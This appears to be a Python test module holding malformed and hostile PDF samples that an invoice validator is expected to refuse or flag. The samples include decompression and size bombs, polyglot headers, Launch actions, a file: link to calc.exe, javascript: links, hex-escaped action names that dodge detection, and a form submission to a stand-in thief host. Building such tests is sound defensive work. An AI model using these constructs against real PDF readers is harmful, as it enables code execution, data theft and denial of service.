"""Files that are damaged, locked, two things at once, bombs, or alive: each with what it is refused for."""

import io
import zipfile

from invoices.pdf import PdfProblem
from tests import pdfs
from tests.corpus.honest import updated
from tests.pdfs import LAUNCH, SCRIPT, flate_stream, one_page, one_page_compressed, one_page_objects, plain_pdf, raw_pdf

DAMAGED, COSTLY, LAUNCHES = PdfProblem.DAMAGED, PdfProblem.TOO_COSTLY, PdfProblem.LAUNCH_ACTION
END = b"\nstartxref\n0\n%%EOF\n"


# --- Damaged --------------------------------------------------------------------------------------------------------


def cut(tenths: int) -> bytes:
    """What an interrupted transfer leaves."""
    pdf = plain_pdf(pages=5)
    return pdf[: len(pdf) * tenths // 10]


def zeroed(tenths: int) -> bytes:
    """What a disk that lost its power leaves: a file of the right length with nothing in a part of it."""
    pdf = plain_pdf(pages=5)
    start = len(pdf) * tenths // 10
    return pdf[:20] + bytes(start) + pdf[20 + start :]


def as_text() -> bytes:
    """What a transfer in text mode makes of a binary file, to UTF-8 and back."""
    return pdfs.one_page_compressed().decode("latin-1").encode("utf-8")


# --- Two things at once ---------------------------------------------------------------------------------------------


def zip_file(content: bytes = b"MZ", comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo("a.exe"), content)
        archive.comment = comment
    return out.getvalue()


HEADS = {
    "ZIP": zip_file(),
    "HTML": b"<!doctype html><script>alert(1)</script>\n",
    "JPEG": b"\xff\xd8\xff\xe0\0\x10JFIF\0",
    "GIF": b"GIF89a",
    "a program for Windows": b"MZ\x90\0" + bytes(60),
    "a program for Linux": b"\x7fELF" + bytes(60),
    "a script": b"#!/bin/sh\nexit\n",
    "a batch file": b"@echo off\r\n",
    "PostScript": b"%!PS-Adobe-3.0\n",
    "a byte-order mark": b"\xef\xbb\xbf",
    "spaces": b"  \n",
}


# --- Locked ---------------------------------------------------------------------------------------------------------


def locked(entries: bytes) -> bytes:
    keys = b"/O <%s> /U <%s> /P -44" % (b"00" * 32, b"00" * 32)
    return raw_pdf(one_page_objects(), trailer=b"/ID [<00> <00>] /Encrypt << %s %s >>" % (entries, keys))


LOCKS = {
    "RC4, 40 bits": b"/Filter /Standard /V 1 /R 2",
    "RC4, 128 bits": b"/Filter /Standard /V 2 /R 3 /Length 128",
    "AES, 128 bits": b"/Filter /Standard /V 4 /R 4 /CF << /StdCF << /CFM /AESV2 >> >> /StmF /StdCF /StrF /StdCF",
    "AES, 256 bits": b"/Filter /Standard /V 5 /R 6 /CF << /StdCF << /CFM /AESV3 >> >> /StmF /StdCF /StrF /StdCF",
    "by certificates": b"/Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4",
    "a lock that changes nothing": b"/Filter /Standard /V 4 /R 4 /StmF /Identity /StrF /Identity",
    "an unknown lock": b"/Filter /Inconnu",
}


# --- Bombs ----------------------------------------------------------------------------------------------------------


def objects_without_table(count: int) -> bytes:
    before, _, _ = one_page().rpartition(b"xref\n0")
    return before + b"".join(b"%d 0 obj 1\n" % n for n in range(4, count)) + b"trailer<</Root 1 0 R>>" + END


def table_that_leads_to_itself() -> bytes:
    pdf = one_page()
    table = pdf.rindex(b"xref\n0")
    return pdf.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % table)


def object_stream(entries: bytes, content: bytes) -> bytes:
    return pdfs.one_page_with_object_stream(pdfs.stream(content, b"/Type /ObjStm " + entries))


def cross_references(entries: bytes, content: bytes = bytes(100)) -> bytes:
    body = flate_stream(content, b"/Type /XRef /Root 1 0 R " + entries)
    return b"%%PDF-1.7\n1 0 obj\n%s\nendobj\nstartxref\n9\n%%%%EOF\n" % body


# --- Alive ----------------------------------------------------------------------------------------------------------

ACTIVE = {
    "GoToE": b"<< /S /GoToE /T << /R /C /N (a.pdf) >> >>",
    "GoToR": b"<< /S /GoToR /F (\\\\\\\\serveur\\\\a.pdf) /D [0 /Fit] >>",
    "ImportData": b"<< /S /ImportData /F (a.fdf) >>",
    "Rendition": b"<< /S /Rendition /OP 0 >>",
    "file: link": b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>",
    "javascript: link": b"<< /S /URI /URI (javascript:alert\\(1\\)) >>",
    "Launch": LAUNCH,
}
# Where an action may hang, as entries of the catalog, of the page, and a further object that they refer to.
PLACES = {
    "on opening": (b"/OpenAction 4 0 R", b""),
    "on closing": (b"/AA << /WC 4 0 R >>", b""),
    "on printing": (b"/AA << /WP 4 0 R >>", b""),
    "when a page opens": (b"", b"/AA << /O 4 0 R >>"),
    "when a page closes": (b"", b"/AA << /C 4 0 R >>"),
    "on a link": (b"", b"/Annots [ << /Subtype /Link /Rect [0 0 9 9] /A 4 0 R >> ]"),
    "on a widget": (b"", b"/Annots [ << /Subtype /Widget /Rect [0 0 9 9] /AA << /E 4 0 R /X 4 0 R >> >> ]"),
    "in the outline": (b"/Outlines << /First << /Title (a) /A 4 0 R >> >>", b""),
    "calculating a field": (b"/AcroForm << /Fields [ << /T (a) /AA << /C 4 0 R >> >> ] /CO [4 0 R] >>", b""),
    "after another action": (b"/OpenAction << /S /GoTo /D [3 0 R] /Next [ 4 0 R ] >>", b""),
    "in a name tree": (b"/Names << /Dests << /Kids [ << /Names [ (a) << /A 4 0 R >> ] >> ] >> >>", b""),
}


def hexed(action: bytes) -> bytes:
    """The same action with every letter of its type written as a number."""
    head, mark, rest = action.partition(b"/S /")
    name, _, tail = rest.partition(b" ")
    return head + mark + b"".join(b"#%02x" % letter for letter in name) + b" " + tail


def opened(action: bytes) -> bytes:
    return one_page(action, catalog=b"/OpenAction 4 0 R")


def opened_compressed(action: bytes) -> bytes:
    return one_page_compressed(action, catalog=b"/OpenAction 4 0 R")


WAYS = {
    "plain": opened,
    "hex-escaped": lambda action: opened(hexed(action)),
    "in an object stream": opened_compressed,
    "hex-escaped, in an object stream": lambda action: opened_compressed(hexed(action)),
}


def replaced_by_an_update() -> bytes:
    """Harmless at first, and alive in what an update puts in its place."""
    return updated(one_page(b"<< /S /GoTo /D [3 0 R] >>", catalog=b"/OpenAction 4 0 R"), 4, LAUNCH)


REFUSED = {
    **{f"cut at {tenths} tenths": (lambda tenths=tenths: cut(tenths), DAMAGED) for tenths in range(1, 10)},
    **{f"cut at {t} tenths, with an end": (lambda t=t: cut(t) + END, DAMAGED) for t in (1, 3, 5)},
    "zeroes for its second half": (lambda: zeroed(9), DAMAGED),
    "sent as text": (as_text, DAMAGED),
    "header alone": (lambda: b"%PDF-1.7\n", DAMAGED),
    "header and end": (lambda: b"%PDF-1.7\n%%EOF", DAMAGED),
    "catalog that is a number": (lambda: raw_pdf([b"7"]), DAMAGED),
    "half a header": (lambda: b"%PDF", PdfProblem.NOT_PDF),
    "UTF-16": (lambda: plain_pdf().decode("latin-1").encode("utf-16"), PdfProblem.NOT_PDF),
    **{f"behind {name}": (lambda head=head: head + plain_pdf(), PdfProblem.NOT_PDF) for name, head in HEADS.items()},
    "before a large ZIP": (lambda: plain_pdf() + zip_file(bytes(2000)), DAMAGED),
    "before a ZIP that ends like a PDF": (lambda: plain_pdf() + zip_file(bytes(2000), b"%%EOF"), DAMAGED),
    **{f"locked: {name}": (lambda lock=lock: locked(lock), PdfProblem.ENCRYPTED) for name, lock in LOCKS.items()},
    "600,000 objects without a table": (lambda: objects_without_table(600_000), COSTLY),
    "an object stream with a predictor of 2 GB": (
        lambda: object_stream(
            b"/N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 2147483647 >>", bytes(50)
        ),
        COSTLY,
    ),
    "a cross-reference stream of endless columns": (
        lambda: cross_references(b"/W [9 9 999999999] /Size 9"),
        DAMAGED,
    ),
    "a cross-reference stream of 2 billion entries": (
        lambda: cross_references(b"/W [0 0 0] /Index [0 2147483647] /Size 2147483647"),
        COSTLY,
    ),
    **{
        f"launch, {place}": (lambda catalog=catalog, page=page: one_page(LAUNCH, catalog=catalog, page=page), LAUNCHES)
        for place, (catalog, page) in PLACES.items()
    },
    **{
        f"{name}, {way}": (lambda make=make, action=action: make(action), LAUNCHES)
        for name, action in ACTIVE.items()
        for way, make in WAYS.items()
    },
    "launch, put there by an update": (replaced_by_an_update, LAUNCHES),
}
# Made to be trouble, and none: they cost nothing, hide nothing, and readers show them.
HARMLESS = {
    "no catalog named": lambda: one_page().replace(b"/Root 1 0 R", b""),
    "a table that leads to itself": table_that_leads_to_itself,
    "an object stream of minus one objects": lambda: object_stream(b"/N -1 /First 0", b"6 0 << >>"),
    "an object stream that begins beyond its end": lambda: object_stream(b"/N 1 /First 99999", b"6 0 << >>"),
    "before a small ZIP": lambda: plain_pdf() + zip_file(),
}
# A supporting document may have these, and is flagged; an invoice may not.
FLAGGED = {
    **{
        f"script, {place}": (
            lambda catalog=catalog, page=page: one_page(SCRIPT, catalog=catalog, page=page),
            ("javascript",),
            PdfProblem.JAVASCRIPT,
        )
        for place, (catalog, page) in PLACES.items()
    },
    "script, hex-escaped": (lambda: opened(hexed(SCRIPT)), ("javascript",), PdfProblem.JAVASCRIPT),
    "sending a form, in an object stream": (
        lambda: opened_compressed(b"<< /S /SubmitForm /F (https://voleur.example) >>"),
        ("javascript",),
        PdfProblem.JAVASCRIPT,
    ),
}
